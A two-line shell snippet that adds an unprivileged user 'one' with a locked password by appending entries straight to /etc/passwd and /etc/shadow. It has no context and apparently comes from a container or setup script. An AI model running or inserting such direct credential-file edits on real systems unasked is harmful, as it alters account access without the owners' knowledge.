echo 'one:x:4711:100::/:/bin/sh' >> /etc/passwd
echo 'one:!:19000::::::' >> /etc/shadow
